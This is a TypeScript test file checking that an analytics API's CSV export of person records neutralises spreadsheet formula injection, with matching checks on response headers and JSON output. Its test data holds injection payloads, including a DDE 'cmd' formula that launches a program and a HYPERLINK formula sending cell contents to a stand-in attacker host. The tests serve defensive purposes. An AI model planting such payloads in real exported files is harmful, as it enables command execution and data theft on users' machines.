import { beforeAll, describe, expect, test } from "bun:test";
import type { Json, JsonObject } from "../../src/core/values/json.ts";
import { HOSTILE_TEXTS, stored } from "../support/answers/hostile.ts";
import { OPERATIONS } from "../support/answers/operations.ts";
import { asker, type Told } from "../support/answers/requests.ts";
import { batch, event } from "../support/data/build-records.ts";
import { sharedServer } from "../support/start/shared-server.ts";

const PERSONS = "/api/environments/1/persons/";

/** Texts that a spreadsheet runs, or takes for the end of a cell. */
const FORMULAS = ["=", "+", "-", "@", "\t", "\r", "\n"].flatMap((start) => [
  ...[start, `${start}1+1`, `${start}cmd|' /C calc'!A0`, `${start}"x",y\r\n=z`],
  `${start}HYPERLINK("http://evil.example?x="&A1,"a")`,
]);
const TEXTS = [...FORMULAS, ...HOSTILE_TEXTS, '"', '""', "a,b", "a;b", 'a"b', "a\r\nb", ""].map(
  stored,
);

/** Everything that is hostile as name and as value, nested as well. */
const PROPERTIES: JsonObject = {
  ...Object.fromEntries(TEXTS.map((text, n) => [`v${n}`, text])),
  names: Object.fromEntries(TEXTS.map((text) => [text, "x"])),
  list: TEXTS.slice(0, 9),
  numbers: [-5, 1e21, 0.1, true, null],
};

const server = sharedServer();
const ask = asker(server);
let person: { id: number; distinct_ids: string[]; properties: JsonObject };

beforeAll(async () => {
  const set = { $set: PROPERTIES };
  await server.capture(batch(event({ distinct_id: '=cmd|"x"', properties: set })));
  await server.stored(1);
  const { body } = await ask("GET", PERSONS);
  person = (body as { results: (typeof person)[] }).results[0] as typeof person;
});

/** Returns the cells of a CSV by RFC 4180 whose lines end with CRLF; throws if it is no CSV. */
function parsed(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (let rest = text; rest !== ""; ) {
    const found = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest);
    if (found === null) throw new Error(`no CSV: ${rest.slice(0, 99)}`);
    const [whole, quoted, plain = "", end] = found;
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === "\r\n") {
      rows.push(row);
      row = [];
    }
    rest = rest.slice(whole.length);
  }
  return rows;
}

type Cell = [name: string, value: Exclude<Json, object> | null];

/** The cells of a value; each nested value has a cell of its own (decision 47). */
function cellsOf(value: Json, name = ""): Cell[] {
  if (value === null || typeof value !== "object") return [[name, value]];
  return Object.entries(value).flatMap(([key, inner]) => {
    const own = key.replace(/[.\\]/g, "\\$&");
    return cellsOf(inner, name === "" ? own : `${name}.${own}`);
  });
}

const harmless = (text: string) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);

function expectTable({ status, headers }: Told): void {
  expect([status, headers.get("content-type")]).toEqual([status, "text/csv; charset=utf-8"]);
  expect(headers.get("content-disposition")).toStartWith("attachment");
  expect(headers.get("x-content-type-options")).toBe("nosniff");
  expect(headers.get("cache-control")).toBe("no-store");
}

describe("a table", () => {
  test.each([PERSONS, "one"])(
    "of persons has each text in its own cell, and no formula: %s",
    async (from) => {
      const path = from === "one" ? `${PERSONS}${person.id}/` : from;
      const table = await ask("GET", `${path}?format=csv`);

      expectTable(table);
      const [columns = [], cells = [], ...others] = parsed(table.text);
      expect(others).toEqual([]);
      const flat = cellsOf(person as unknown as JsonObject);
      const wanted = flat.map(([name, value]) => [
        harmless(name),
        typeof value === "string" ? harmless(value) : String(value ?? ""),
      ]);
      const found = columns.map((name, at) => [name, cells[at]]);
      expect(found.toSorted()).toEqual(wanted.toSorted() as string[][]);
      const numbers = new Set(
        flat.flatMap(([, value]) => (typeof value === "number" ? [String(value)] : [])),
      );
      const running = [...columns, ...cells].filter((cell) => /^[=+\-@\t\r\n]/.test(cell));
      expect(running.filter((cell) => !numbers.has(cell))).toEqual([]);
      expect(running).toContain("-5");
    },
  );

  test("is saved and not shown, from every route", async () => {
    const asked = OPERATIONS.filter(([, , , , parameters]) =>
      parameters.split(" ").includes("format"),
    );
    const tables = asked.filter(([, path]) => path.includes("persons"));
    expect(tables.length).toBeGreaterThanOrEqual(8);
    // The request that deletes the person comes last.
    for (const [method, path, , , , { query = "", body } = {}] of tables.toSorted(
      ([one], [other]) => Number(one === "DELETE") - Number(other === "DELETE"),
    )) {
      const concrete = path.replace(":project_id", "1").replace(":id", String(person.id));
      const separator = query === "" ? "?" : "&";
      const table = await ask(method, `${concrete}${query}${separator}format=csv`, { body });
      expect([method, path, table.status < 300]).toEqual([method, path, true]);
      expectTable(table);
      expect(parsed(table.text)).not.toEqual([]);
    }
  });
});

test("JSON keeps every text as it is, and says that it is JSON", async () => {
  await server.capture(batch(event({ distinct_id: "json", properties: { $set: PROPERTIES } })));
  await server.stored(1, "&distinct_id=json");

  const { headers, body } = await ask("GET", `${PERSONS}?distinct_id=json`);

  expect((body as { results: object[] }).results).toMatchObject([{ properties: PROPERTIES }]);
  expect(headers.get("content-type")).toStartWith("application/json");
  expect(headers.get("content-disposition")).toBeNull();
});
